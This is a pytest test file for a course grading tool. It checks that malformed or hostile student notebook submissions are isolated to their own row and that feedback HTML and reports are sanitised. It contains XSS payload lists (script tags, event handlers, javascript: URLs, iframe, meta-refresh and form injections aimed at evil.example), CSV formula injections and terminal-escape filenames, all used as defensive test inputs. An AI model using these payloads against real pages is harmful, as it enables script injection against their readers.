"""Hostile cohort inputs (issue 51): one submission never costs the cohort, and what the instructor reads is inert.

A. A notebook that is a folder, a named pipe, a device or too big, a cell whose nbgrader metadata is null or whose
   grade_id is not a string, a folder name of 250 characters or not UTF-8, a message of 26 MB: each becomes that
   submission's row ("not graded: why", or graded under an escaped name), and every other submission is still graded
   and written.
B. Names, messages and quoted lines reach report.txt, the CSVs and the console with control characters escaped, and
   the feedback HTML keeps nothing active (scripts, handlers, javascript: URLs, frames, SVG, forms, <base>, refresh).

The fast tests run ``cohort.main`` in this process with nbgrader faked at the module's edge (cohort's ``subprocess``,
``prepare`` and ``read_grades``: instant, writing what nbgrader would); one cohort run with the real nbgrader and
sandbox is in ``make test-cohort``.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import subprocess
import threading
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from conftest import background_job, background_result, read, student_path
from specdec.course import boxes, cohort, driver
from specdec.course.driver import CellGrade

SLUG = "01_cost_ledger"  # the blank student notebook scores 0 but grades fine
UNSAFE = [] if boxes.missing() is None else ["--unsafe-no-sandbox"]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
HUGE = "HUGE-MESSAGE"  # a notebook holding this gets a 26 MB message from the fake gradebook

# -- a cohort run in this process, nbgrader faked --------------------------------------------------------------------

TEMPLATE_HEAD = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8"/>
<title>01_cost_ledger</title>
<style type="text/css">
.cell { margin: 0 } a > b { color: red } /* the template's own CSS, kept as it is */
</style>
<script src="https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/latest.js?config=TeX-AMS_CHTML-full,Safe"> </script>
</head>
<body>
<a name="top"></a>
<div class="border-box-sizing" id="notebook" tabindex="-1"><main>
<div class="cell border-box-sizing code_cell rendered" id="cell-id=1">
<span class="ansi-bold" style="color: rgb(0,135,0)">kept</span> <a href="#top">top</a>
<a href="https://example.org/doc">doc</a> <img alt="plot" src="data:image/png;base64,iVBORw0KGgo="/>
"""

#: What a submission can put into nbgrader's feedback (a markdown cell, or an output of type text/html or
#: image/svg+xml): every one of these must come out inert.
ATTACKS = """
<script>alert(1)</script>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)">a</a> <a href=" JaVa&#x09;ScRiPt&colon;alert(4)">b</a>
<svg onload="alert(5)"><script>alert(6)</script><foreignObject><img src=x onerror=alert(7)></foreignObject>
<a xlink:href="javascript:alert(8)"><text>svg text</text></a><animate attributeName="href" values="javascript:alert(9)"/></svg>
<iframe src="https://evil.example/" srcdoc="<script>alert(10)</script>"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">go</button></form>
<style>body { display: none; background: url(https://evil.example/t.png) }</style>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
<p style="position:fixed;top:0;background:url(https://evil.example/t.png)">fake score</p>
<math><mtext><a href="javascript:alert(11)">m</a></mtext></math>
<details open ontoggle="alert(12)"><summary>s</summary></details>
<div style="color: red; background-image: expression(alert(13))">styled</div>
<!-- <script>alert(14)</script> -->
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></p></noscript>
<title>an unclosed title hides the rest of the page
"""

TEMPLATE_TAIL = """
</div></main></div>
<p id="after">the feedback after the submission's cells</p>
</body>
</html>
"""


class _Done:
    pid, returncode = 0, 0

    def communicate(self, timeout=None):
        return "", None

    def wait(self, timeout=None):
        return 0


class FakeNbgrader:
    """nbgrader for cohort runs started in the test's own thread (or one it hands to ``adopt``): ``prepare`` makes
    an empty course, autograde copies the submitted notebook to autograded/, generate_feedback writes ``html``, the
    gradebook gives one test cell (0 of 2 points). Other threads' cohorts (a background job) get the real ones."""

    def __init__(self, monkeypatch, html: str):
        self.threads, self.roots, self.students, self.html = {threading.current_thread()}, [], [], html
        real_prepare, real_read_grades = cohort.prepare, cohort._read_grades_copy

        def prepare(slugs, root, course=None):
            if threading.current_thread() not in self.threads:
                return real_prepare(slugs, root, course)
            self.roots.append(Path(root))
            for slug in slugs:
                (root / "template" / slug).mkdir(parents=True)
            return root / "template", {slug: read(student_path(slug)) for slug in slugs}

        def read_grades(course, autograded, slug, student, cell_timeout_s=driver.CELL_TIMEOUT_S):
            if not self._ours(course):
                return real_read_grades(course, autograded, slug, student, cell_timeout_s)
            autograded = course / "autograded" / student / slug / f"{slug}.ipynb"
            if not autograded.exists():
                raise LookupError("no gradebook entry")
            message = "AssertionError: " + "x" * 26_000_000 if HUGE in autograded.read_text() else "not done yet"
            return [CellGrade(slug, "speedup_test", 0.0, 2.0, message=message)], 0.0, 0.0  # grades, seconds late, penalty

        def popen(cmd, **kwargs):
            found = self._nbgrader(cmd)
            if found is None:
                return subprocess.Popen(cmd, **kwargs)
            slug, student, root = found
            self.students.append(student)
            autograded = root / "autograded" / student / slug / f"{slug}.ipynb"
            autograded.parent.mkdir(parents=True)
            autograded.write_bytes((root / "submitted" / student / slug / f"{slug}.ipynb").read_bytes())
            return _Done()

        def run(cmd, **kwargs):
            found = self._nbgrader(cmd)
            if found is None:
                return subprocess.run(cmd, **kwargs)
            slug, student, root = found
            html = root / "feedback" / student / slug / f"{slug}.html"
            html.parent.mkdir(parents=True)
            html.write_text(self.html)
            return subprocess.CompletedProcess(cmd, 0, b"", b"")

        fake = SimpleNamespace(**{name: getattr(subprocess, name) for name in dir(subprocess) if not name.startswith("_")})
        fake.Popen, fake.run = popen, run
        monkeypatch.setattr(cohort, "subprocess", fake)
        monkeypatch.setattr(cohort, "prepare", prepare)
        monkeypatch.setattr(cohort, "_read_grades_copy", read_grades)

    def _ours(self, course: Path) -> bool:
        return any(Path(course).is_relative_to(root) for root in self.roots)

    def _nbgrader(self, cmd: list[str]):
        """(assignment, student, course root) of an nbgrader command of this test's cohort, else None."""
        if "nbgrader" not in cmd:
            return None
        args = cmd[cmd.index("nbgrader") + 1:]
        option = {a.split("=", 1)[0]: a.split("=", 1)[1] for a in args if a.startswith("--") and "=" in a}
        root = Path(option["--CourseDirectory.root"])
        return (args[1], option["--student"], root) if self._ours(root) else None


@pytest.fixture
def nbgrader(monkeypatch):
    return FakeNbgrader(monkeypatch, TEMPLATE_HEAD + ATTACKS + TEMPLATE_TAIL)


def _path(submitted: Path, student: str) -> Path:
    return Path(os.fsdecode(os.fsencode(submitted) + b"/" + os.fsencode(student))) / SLUG / f"{SLUG}.ipynb"


def _submit(submitted: Path, student: str, nb=None) -> Path:
    path = _path(submitted, student)
    path.parent.mkdir(parents=True)
    nbformat.write(nb if nb is not None else read(student_path(SLUG)), path)
    return path


def _feedback(out: Path, student: str) -> Path:
    return _path(out / "feedback", student).parent.parent / f"{SLUG}.html"


def _rows(path: Path) -> list[dict]:
    """A CSV read back as an instructor's script would: the csv module's default field limit, UTF-8."""
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _grade(tmp_path: Path, capsys=None) -> SimpleNamespace:
    out = tmp_path / "out"
    code = cohort.main(["--unsafe-no-sandbox", str(tmp_path / "submitted"), "--out", str(out), "--workers", "2"])
    console = capsys.readouterr().out if capsys else ""
    return SimpleNamespace(code=code, out=out, console=console, totals={r["student"]: r for r in _rows(out / "totals.csv")},
                           grades=_rows(out / "grades.csv"), report=(out / "report.txt").read_text(encoding="utf-8"))


def _within(seconds: float, fn, unblock, nbgrader: FakeNbgrader):
    """fn() in a thread of its own, failing the test (after unblock() lets it finish) if it is still running after
    ``seconds``."""
    result: dict = {}

    def target():
        nbgrader.threads.add(threading.current_thread())
        try:
            result["value"] = fn()
        except BaseException as error:
            result["error"] = error

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        unblock()
        thread.join(30)
        pytest.fail(f"the cohort was still blocked after {seconds:g} s")
    if "error" in result:
        raise result["error"]
    return result["value"]


def _honest_graded(run, student="alice"):
    row = run.totals[student]
    assert row["graded"] == "True" and row["max_score"] == "2", row
    assert _feedback(run.out, student).exists()


def _not_graded(run, student, *why):
    row = run.totals[student]
    assert row["graded"] == "False" and "not graded: " in row["messages"], row
    for part in why:
        assert part in row["messages"], (part, row["messages"])
    assert f"{student}/{SLUG}: not graded: " in run.report


# -- A: one submission never costs the cohort ------------------------------------------------------------------------


def test_a_named_pipe_is_refused_without_being_opened(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    pipe = _path(submitted, "mallory")
    pipe.parent.mkdir(parents=True)
    os.mkfifo(pipe)

    def unblock():  # a writer that opens and closes: the blocked reader sees the end of the file
        try:
            os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass

    run = _within(20, lambda: _grade(tmp_path), unblock, nbgrader)
    assert run.code == 0
    _honest_graded(run)
    _not_graded(run, "mallory", "named pipe")


def _device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # the null device: reads as empty
    except PermissionError:
        pytest.skip("making a device node needs root")


@pytest.mark.parametrize("kind, make, why", [
    ("folder", lambda path: path.mkdir(), "a folder"),
    ("device", _device, "a device"),
])
def test_a_folder_or_device_where_the_notebook_should_be_is_refused(tmp_path, nbgrader, kind, make, why):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    path = _path(submitted, "mallory")
    path.parent.mkdir(parents=True)
    make(path)
    run = _grade(tmp_path)
    assert run.code == 0
    _honest_graded(run)
    _not_graded(run, "mallory", why)


def test_an_oversized_notebook_is_refused_unread(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    path = _path(submitted, "mallory")
    path.parent.mkdir(parents=True)
    with open(path, "w") as f:  # a valid notebook, padded with whitespace past any sane size
        f.write(nbformat.writes(read(student_path(SLUG))))
        f.write(" " * (64 * 2**20))
    run = _grade(tmp_path)
    assert run.code == 0
    _honest_graded(run)
    _not_graded(run, "mallory", "MB")


def _first_graded_cell(nb):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id"))


def _null_metadata(nb):
    _first_graded_cell(nb).metadata["nbgrader"] = None


def _list_grade_id(nb):
    _first_graded_cell(nb).metadata["nbgrader"]["grade_id"] = ["count_params", "speedup"]


def _string_metadata(nb):
    _first_graded_cell(nb).metadata["nbgrader"] = "count_params"


@pytest.mark.parametrize("change, why", [(_null_metadata, "null"), (_list_grade_id, "grade_id"),
                                         (_string_metadata, "nbgrader metadata")])
def test_malformed_nbgrader_metadata_is_refused(tmp_path, nbgrader, change, why):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    nb = read(student_path(SLUG))
    change(nb)
    _submit(submitted, "mallory", nb)
    run = _grade(tmp_path)
    assert run.code == 0
    _honest_graded(run)
    _not_graded(run, "mallory", why)


def _flagged(line: str):
    """The blank notebook with one line the tampering scan quotes in the report."""
    nb = read(student_path(SLUG))
    nb.cells.append(nbformat.v4.new_code_cell(line))
    return nb


#: Folder names as they arrive (str, with Latin-1 bytes as surrogates, as os.listdir gives them) and as the report,
#: the CSVs and the console must show them.
NAMES = {
    "m" * 250: "m" * 250,
    os.fsdecode(b"Jos\xe9"): "Jos\\xe9",
    "bob\x1b[8m": "bob\\x1b[8m",
    "eve\nalice": "eve\\nalice",
    "zoe\u202egnp.exe\u2028x": "zoe\\u202egnp.exe\\u2028x",
    "=1+2": "'=1+2",  # a spreadsheet formula, neutralised in the CSVs
}


def test_odd_folder_names_are_graded_and_shown_escaped(tmp_path, nbgrader, capsys):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    for name in NAMES:
        _submit(submitted, name, _flagged("checks = None  # \x1b[8mhidden\u202e"))
    run = _grade(tmp_path, capsys)
    assert run.code == 0
    _honest_graded(run)
    for name, shown in NAMES.items():
        row = run.totals[shown]
        assert row["graded"] == "True" and row["flagged"] == "True", row
        assert "rebinds checks" in row["messages"] and "\\x1b[8mhidden\\u202e" in row["messages"], row
        assert _feedback(run.out, name).exists()
    # nbgrader saw plain names (its gradebook cannot store the Latin-1 one), the instructor the real ones, escaped
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}", s) for s in nbgrader.students), nbgrader.students
    for text in (run.report, run.console, (run.out / "totals.csv").read_text(), (run.out / "grades.csv").read_text()):
        assert not CONTROL.search(text), CONTROL.search(text)
    assert not [line for line in run.report.splitlines() if line.startswith("alice/")], run.report
    assert "eve\\nalice/01_cost_ledger: flagged for review" in run.report
    assert "eve\\nalice/01_cost_ledger:" in run.console


def test_a_huge_message_is_capped_and_the_csv_reads_back(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    _submit(submitted, "mallory", _flagged(f"# {HUGE}"))
    run = _grade(tmp_path)  # the csv module's default field limit (131,072) reads every field
    assert run.code == 0
    _honest_graded(run)
    row = next(r for r in run.grades if r["student"] == "mallory")
    assert row["message"].startswith("AssertionError: xxx") and len(row["message"]) < 10_000
    assert "more characters" in row["message"]
    assert len(run.report) < 100_000


def test_a_crash_of_the_grader_on_one_submission_is_that_submissions_row(tmp_path, nbgrader, monkeypatch):
    """Whatever else goes wrong with one submission, the others are graded and the run writes its results."""
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    _submit(submitted, "mallory", _flagged("x = 1"))
    real = cohort.tampering

    def tampering(nb):
        if any(c.source == "x = 1" for c in nb.cells):
            raise RecursionError("maximum recursion depth exceeded")
        return real(nb)

    monkeypatch.setattr(cohort, "tampering", tampering)
    run = _grade(tmp_path)
    assert run.code == 0
    _honest_graded(run)
    _not_graded(run, "mallory", "RecursionError")


def test_a_name_that_is_not_utf8_has_a_shard_and_merges(tmp_path):
    name = os.fsdecode(b"Jos\xe9\x1b[8m")
    sub = cohort.Submission(name, SLUG, tmp_path / "x.ipynb", [CellGrade(SLUG, "speedup_test", 1.0, 2.0)],
                            ["flagged for review: line\nalice/01_cost_ledger: fine"], graded=True)
    for k in range(2):
        folder = tmp_path / f"shard-{k}"
        folder.mkdir()
        mine = [sub] if cohort.shard_of(name, 2) == k else []
        cohort.write_outputs(mine, [], folder)
        cohort.write_shard(mine, [], (k, 2), folder)
    cohort.merge([tmp_path / "shard-0", tmp_path / "shard-1"], tmp_path / "all")
    (row,) = _rows(tmp_path / "all" / "totals.csv")
    assert row["student"] == "Jos\\xe9\\x1b[8m" and row["messages"].endswith("line\\nalice/01_cost_ledger: fine")
    report = (tmp_path / "all" / "report.txt").read_text().splitlines()
    assert len([line for line in report if not line.startswith("summary: ")]) == 1, report


def test_the_report_always_opens_with_a_summary_and_filters_pick_the_submissions(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    for student in ("alice", "bob"):
        _submit(submitted, student)
    run = _grade(tmp_path)
    assert run.report.splitlines()[:2] == ["summary: 2 of 2 submissions graded; 0 held for review; 0 flagged; 0 not "
                                           "graded", f"summary: {SLUG}: 2 graded, mean 0.00 of 2 automatic points"]
    out = tmp_path / "bob-only"
    assert cohort.main(["--unsafe-no-sandbox", str(submitted), "--out", str(out), "--student", "bob", "--quiet"]) == 0
    assert [r["student"] for r in _rows(out / "totals.csv")] == ["bob"]
    assert cohort.main(["--unsafe-no-sandbox", str(submitted), "--out", str(tmp_path / "none"), "--assignment",
                        "02_greedy_verify", "--quiet"]) == 2  # nothing of that assignment: said, not an empty run


def test_a_folder_without_its_notebook_is_a_row(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    (submitted / "mallory" / SLUG).mkdir(parents=True)
    (submitted / "mallory" / SLUG / "notes.txt").write_text("forgot the notebook")
    run = _grade(tmp_path)
    _honest_graded(run)
    _not_graded(run, "mallory", "no notebook")


# -- B: what the instructor reads is inert ---------------------------------------------------------------------------


class _Audit(HTMLParser):
    """Every tag and attribute of an HTML page, as a browser would see them (the sanitiser writes every text and
    attribute escaped, so this parser and a browser agree on its output)."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.styles: list[str] = []
        self.in_style = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.in_style = tag == "style"

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if self.in_style:
            self.styles.append(data)


ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "svg", "math", "foreignobject", "base", "form",
               "input", "button", "link", "noscript", "animate", "set"}


def assert_inert(html: str) -> None:
    audit = _Audit(html)
    assert not [t for t, _ in audit.tags if t in ACTIVE_TAGS], [t for t, _ in audit.tags if t in ACTIVE_TAGS]
    for tag, attrs in audit.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in {"srcdoc", "formaction", "action", "xlink:href", "http-equiv", "values", "data"}, (tag, name)
            if name in {"href", "src"}:
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value or "", re.I)
                image = tag == "img" and name == "src" and value.startswith(("data:image/png;", "data:image/svg+xml;"))
                assert scheme is None or scheme[1] in {"http", "https"} or image, (tag, name, value)
            if name == "style":
                assert not re.search(r"url|expression|position|\\", value or "", re.I), (tag, value)
        if tag == "meta":
            assert set(attrs) == {"charset"}, attrs
    assert [t for t, _ in audit.tags].count("title") == 1  # the head's; the body's would hide the rest of the page
    assert not [s for s in audit.styles if "body { display: none" in s or "evil.example" in s], audit.styles


def test_feedback_keeps_the_template_and_drops_everything_active(tmp_path, nbgrader):
    submitted = tmp_path / "submitted"
    _submit(submitted, "alice")
    run = _grade(tmp_path)
    _honest_graded(run)
    html = (run.out / "feedback" / "alice" / f"{SLUG}.html").read_text()
    assert_inert(html)
    assert "evil.example" not in html
    # what the instructor still needs: the template's CSS as it was, the layout, the text, plots and links
    assert ".cell { margin: 0 } a > b { color: red }" in html and '<style type="text/css">' in html
    assert 'class="cell border-box-sizing code_cell rendered"' in html and 'style="color: rgb(0,135,0)"' in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html and 'href="https://example.org/doc"' in html
    assert '<a name="top">' in html and 'href="#top"' in html and 'tabindex="-1"' in html
    for text in ("fake score", "svg text", "styled", "the feedback after the submission's cells",
                 "an unclosed title hides the rest of the page"):
        assert text in html, text
    assert 'style="color: red"' in html


def test_the_sanitiser_refuses_urls_a_browser_would_run():
    from specdec.course.inert import sanitise_html

    for url in ("javascript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "JAVASCRIPT:alert(1)",
                "&#106;avascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
                "jav&#x0A;ascript:alert(1)", "\x01javascript:alert(1)", "data:image/png;base64,iVBO"):
        html = sanitise_html(f'<body><a href="{url}">a</a><iframe src="{url}"></iframe></body>')
        assert "href" not in html and "src" not in html, (url, html)
        if not url.startswith("data:image"):
            assert "src" not in sanitise_html(f'<body><img src="{url}"></body>'), url
    for url in ("https://example.org/a?b=c#d", "http://example.org/", "#top", "notes/figure.png", "?q=1"):
        assert 'href="' in sanitise_html(f'<body><a href="{url}">a</a></body>'), url
    for url in ("data:image/png;base64,iVBO", "data:image/svg+xml;base64,PHN2Zz4=", "https://example.org/a.png"):
        assert 'src="' in sanitise_html(f'<body><img src="{url}"></body>'), url


def test_visible_escapes_every_control_character():
    from specdec.course.inert import csv_cell, visible

    assert visible("a\x1b[31mb\nc\rd\te\x00f\x7fg\x85h\x9bi") == "a\\x1b[31mb\\nc\\rd\\te\\x00f\\x7fg\\x85h\\x9bi"
    unicode = "\u2028\u2029\u202a\u202e\u2066\u2069\u200f\u061c"
    assert visible(unicode) == "".join(f"\\u{ord(c):04x}" for c in unicode)
    assert visible(os.fsdecode(b"Jos\xe9")) == "Jos\\xe9" and visible("\ud800") == "\\ud800"
    assert visible("José Ñúñez 李") == "José Ñúñez 李"  # printable text as it is
    long = visible("x" * 10_000, 100)
    assert long.startswith("x" * 100) and len(long) < 150 and "9,900 more characters" in long
    assert csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)" and csv_cell("@SUM(1)") == "'@SUM(1)" and csv_cell("ok") == "ok"


# -- the same, through the real nbgrader and sandbox (make test-cohort) ----------------------------------------------


HOSTILE_MARKDOWN = ('<script>alert("md")</script>\n\n<img src=x onerror="alert(2)">\n\n[link](javascript:alert(3))\n\n'
                    '<iframe src="https://evil.example/"></iframe>\n\n<svg onload="alert(4)"></svg>\n\n'
                    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
                    '<p style="position:fixed;background:url(https://evil.example/t.png)">fake score</p>')
HOSTILE_OUTPUTS = ("from IPython.display import display, HTML, SVG, Javascript\n"
                   "display(HTML('<script>alert(5)</script><img src=x onerror=alert(6)><a href=\"javascript:alert(7)\">x</a>"
                   "<iframe srcdoc=\"&lt;script&gt;alert(8)&lt;/script&gt;\"></iframe>output html'))\n"
                   "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(9)\">"
                   "<script>alert(10)</script><text>output svg</text></svg>'))\n"
                   "display(Javascript('alert(11)'))\n")


@background_job("hostile_inputs_graded")
def _grade_hostile_inputs(root):
    submitted = root / "submitted"
    _submit(submitted, "alice")
    hostile = read(student_path(SLUG))
    # the outputs' cell last: the grader's helper, run first, once took the last cell's place (it never ran)
    hostile.cells += [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN), nbformat.v4.new_code_cell(HOSTILE_OUTPUTS)]
    _submit(submitted, "mallory", hostile)
    _submit(submitted, "m" * 250)
    _submit(submitted, os.fsdecode(b"Jos\xe9"))
    broken = _path(submitted, "eve\nalice")
    broken.parent.mkdir(parents=True)
    broken.write_text('{"cells": [')
    for student, make in (("fifo", os.mkfifo), ("folder", os.mkdir)):
        path = _path(submitted, student)
        path.parent.mkdir(parents=True)
        make(path)
    nb = read(student_path(SLUG))
    _null_metadata(nb)
    _submit(submitted, "null_metadata", nb)
    code = cohort.main([*UNSAFE, str(submitted), "--out", str(root / "out"), "--workers", "2", "--quiet"])
    return code, root / "out"


@pytest.mark.pipeline
@pytest.mark.cohort
def test_hostile_inputs_through_nbgrader_cost_only_their_own_rows():
    code, out = background_result("hostile_inputs_graded")
    assert code == 0
    totals = {r["student"]: r for r in _rows(out / "totals.csv")}
    report = (out / "report.txt").read_text()
    for student in ("alice", "mallory", "m" * 250, "Jos\\xe9"):
        assert totals[student]["graded"] == "True" and totals[student]["max_score"] == "10", totals[student]
    for student, why in (("fifo", "named pipe"), ("folder", "a folder"), ("null_metadata", "null"),
                         ("eve\\nalice", "not valid JSON")):
        assert totals[student]["graded"] == "False" and why in totals[student]["messages"], totals[student]
    assert not [line for line in report.splitlines() if line.startswith("alice/")], report
    assert not CONTROL.search(report)
    html = (out / "feedback" / "mallory" / f"{SLUG}.html").read_text()
    assert_inert(html)
    assert "<p>fake score</p>" in html and "output html</div>" in html  # the text of the markdown and the output
    assert '<img alt="No description has been provided for this image" src="data:image/svg+xml;base64,' in html
    assert _feedback(out, os.fsdecode(b"Jos\xe9")).exists()
    assert json.loads((out / "summary.json").read_text())[SLUG]["graded"] == 4
